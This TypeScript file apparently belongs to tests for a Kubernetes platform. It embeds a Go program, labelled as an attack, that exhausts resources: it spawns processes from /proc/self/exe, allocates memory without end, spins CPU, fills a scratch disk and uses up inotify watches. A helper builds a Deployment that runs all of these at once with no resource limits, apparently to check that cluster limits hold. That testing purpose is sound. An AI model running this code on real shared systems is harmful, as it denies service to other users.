import { stringify } from "yaml";

/**
 * What the attacker builds into the app: with ATTACK in its environment the program takes one thing until there is no more of it,
 * and goes on taking. What is killed for it is started again by its first process, which takes nothing itself.
 */
export const attackSource = `package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"syscall"
	"time"
)

const tick = 10 * time.Millisecond

func init() {
	what := os.Getenv("ATTACK")
	if what == "" {
		return
	}
	for {
		switch what {
		case "cpu":
			for range 4 * runtime.NumCPU() {
				go func() {
					for {
					}
				}()
			}
			select {}
		case "pids":
			_, _ = child("sleep")
			time.Sleep(tick / 10)
		case "sleep":
			time.Sleep(time.Hour)
		case "memory":
			if command, err := child("eat"); err == nil {
				_ = command.Wait()
			}
			time.Sleep(tick)
		case "eat":
			held := [][]byte{}
			for {
				piece := make([]byte, 16<<20)
				for at := 0; at < len(piece); at += 4096 {
					piece[at] = 1
				}
				held = append(held, piece)
			}
		case "disk":
			write()
		case "inotify":
			watch()
		}
	}
}

func child(what string) (*exec.Cmd, error) {
	command := exec.Command("/proc/self/exe")
	command.Env = []string{"ATTACK=" + what}
	return command, command.Start()
}

// write fills the folder, in large files and in as many small ones as go, and begins anew.
func write() {
	piece := make([]byte, 1<<20)
	file, err := os.Create("/scratch/large")
	if err != nil {
		time.Sleep(tick)
		return
	}
	for err == nil {
		_, err = file.Write(piece)
	}
	_ = file.Close()
	_ = os.Remove("/scratch/large")
	for number := range 1_000_000 {
		if os.WriteFile(filepath.Join("/scratch", strconv.Itoa(number)), nil, 0o600) != nil {
			break
		}
	}
	_ = os.RemoveAll("/scratch/0")
}

func watch() {
	for {
		fd, err := syscall.InotifyInit1(syscall.IN_CLOEXEC)
		if err != nil {
			time.Sleep(tick)
			continue
		}
		for number := range 100_000 {
			folder := filepath.Join("/scratch", "w"+strconv.Itoa(number))
			_ = os.Mkdir(folder, 0o700)
			if _, err := syscall.InotifyAddWatch(fd, folder, syscall.IN_ALL_EVENTS); err != nil {
				break
			}
		}
	}
}
`;

const takes = ["pids", "memory", "disk", "inotify", "cpu"] as const;

/** Pods that take everything at once, as far as the namespace's Pod Security lets them be made; without a limit of their own. */
export function attackDeployment(image: string, replicas: number): string {
  const container = (what: string) => ({
    name: what,
    image,
    env: [{ name: "ATTACK", value: what }],
    volumeMounts: [{ name: "scratch", mountPath: "/scratch" }],
    securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } },
  });
  return stringify({
    apiVersion: "apps/v1",
    kind: "Deployment",
    metadata: { name: "attack", namespace: "develop" },
    spec: {
      replicas,
      selector: { matchLabels: { app: "attack" } },
      template: {
        metadata: { labels: { app: "attack" } },
        spec: {
          automountServiceAccountToken: false,
          securityContext: { runAsNonRoot: true, seccompProfile: { type: "RuntimeDefault" } },
          volumes: [{ name: "scratch", emptyDir: {} }],
          containers: takes.map(container),
        },
      },
    },
  });
}
